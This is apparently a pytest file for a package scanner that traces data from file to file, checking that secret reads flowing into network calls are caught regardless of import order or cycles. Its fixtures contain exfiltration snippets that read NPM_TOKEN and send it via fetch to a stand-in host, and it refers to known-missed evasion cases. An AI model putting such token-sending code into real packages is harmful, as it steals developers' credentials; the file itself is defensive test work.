"""What goes from file to file is followed, in the same way whatever the order, and never where there is nothing."""

import random

import pytest

from lazaretto.core.crossing import crossed
from lazaretto.core.facts import Facts, Kind, Reach
from lazaretto.core.policy import Outcome
from lazaretto.core.question import chains
from lazaretto.core.reach import Loader
from tests.evasion import beside, flows, handed, handed_python
from tests.evasion.cases import cases
from tests.evasion.specimen import Specimen, ask, refused, told
from tests.examples import read_facts

_HANDED = handed.JAVASCRIPT + handed_python.PYTHON


@pytest.mark.parametrize("specimen", cases(_HANDED, missed=True))
def test_what_is_known_to_be_missed(specimen: Specimen) -> None:
    """It has its reason in the table; whoever makes one of these be held moves it up."""
    analysis = ask(specimen)

    assert specimen.missed
    assert not refused(specimen, analysis), told(analysis)


@pytest.mark.parametrize("specimen", cases(flows.SPECIMENS + flows.MODULES + beside.SPECIMENS + _HANDED))
def test_it_is_held_at_a_new_line(specimen: Specimen) -> None:
    """However the parts are put together."""
    analysis = ask(specimen)

    assert refused(specimen, analysis), told(analysis)
    assert analysis.complete, told(analysis)


@pytest.mark.parametrize("specimen", cases(flows.HARMLESS + flows.UNLIKE))
def test_what_only_stands_in_the_same_package_is_no_flow(specimen: Specimen) -> None:
    """Data are followed by the name of the export, not by the file."""
    analysis = ask(specimen)

    assert analysis.outcome is Outcome.ALLOW, told(analysis)
    (pair,) = analysis.update.pairs
    assert pair.after.crossings == ()


_FILES = {
    "a.js": "exports.token = () => process.env.NPM_TOKEN;\nexports.out = (x) => require('./b').send(x);\n",
    "b.js": "exports.send = (d) => fetch('https://c.invalid/', { body: d });\nexports.back = require('./c');\n",
    "c.js": "const a = require('./a');\na.out(a.token());\nrequire('./b').send(a.token());\nmodule.exports = a;\n",
    "d.js": "module.exports = require('./c');\nmodule.exports.more = require('./d');\n",
}


def _loader() -> Loader:
    return Loader(lambda _, name: (f"{name[2:]}.js",) if f"{name[2:]}.js" in _FILES else ())


def _facts(order: list[str]) -> dict[str, Facts]:
    return {path: read_facts("javascript", _FILES[path].encode()) for path in order}


def test_the_order_of_files_changes_nothing() -> None:
    """Files that load one another in circles, met in any order."""
    reaches = dict.fromkeys(_FILES, Reach.IMPORT)
    expected = crossed(_facts(sorted(_FILES)), reaches, _loader())

    assert {(one.source.path, one.sink.path, one.sink.reach) for one in expected.crossings} == {
        ("a.js", "b.js", Reach.IMPORT)
    }
    for seed in range(5):
        order = sorted(_FILES)
        random.Random(seed).shuffle(order)
        assert crossed(_facts(order), reaches, _loader()) == expected


def test_the_way_over_ports_is_bounded() -> None:
    """A thousand files that all hand on to all others end in bounded time, with what was found until then."""
    names = [f"m{number}" for number in range(300)]
    text = "".join(f"exports.f{n} = (x) => require('./m{n}').f{n}(x);\n" for n in range(0, 300, 10))
    facts = {f"{name}.js": read_facts("javascript", text.encode()) for name in names}
    facts["s.js"] = read_facts("javascript", b"require('./m0').f0(process.env.NPM_TOKEN);\n")

    found = crossed(facts, dict.fromkeys(facts, Reach.IMPORT), Loader(lambda _, name: (f"{name[2:]}.js",)))

    assert found.crossings == ()


@pytest.mark.parametrize(
    ("index", "sooner"),
    [
        ("export { send } from './b';", []),
        ("export { send } from './b'; import { send } from './b'; send();", [Reach.IMPORT]),
        ("import { send } from './c'; send();", [Reach.IMPORT]),
    ],
)
def test_what_is_exported_again_is_not_called(index: str, sooner: list[Reach]) -> None:
    """A package that only passes a function on does not run it; one that calls it, by whatever way, does."""
    texts = {
        "a.js": index,
        "b.js": "export function send() { fetch('https://a.invalid'); }",
        "c.js": "export { send } from './b';",
    }
    facts = {path: read_facts("javascript", text.encode()) for path, text in texts.items()}
    found = crossed(facts, dict.fromkeys(facts, Reach.IMPORT), _loader())

    assert [found.sooner[node] for node in found.sooner if node[0] == "b.js"] == sooner


def test_a_handed_secret_is_sent_when_it_is_handed() -> None:
    """The function that sends is only called; the call stands where the package is imported."""
    (specimen, *_) = flows.SPECIMENS
    (pair,) = ask(specimen).update.pairs

    (chain,) = [one for one in chains(pair.after, (Kind.SECRET_READ,), (Kind.NET_CONNECT,)) if one.data]
    assert (chain.source.path, chain.sink.path, chain.reach) == ("lib/read.js", "lib/send.js", Reach.IMPORT)
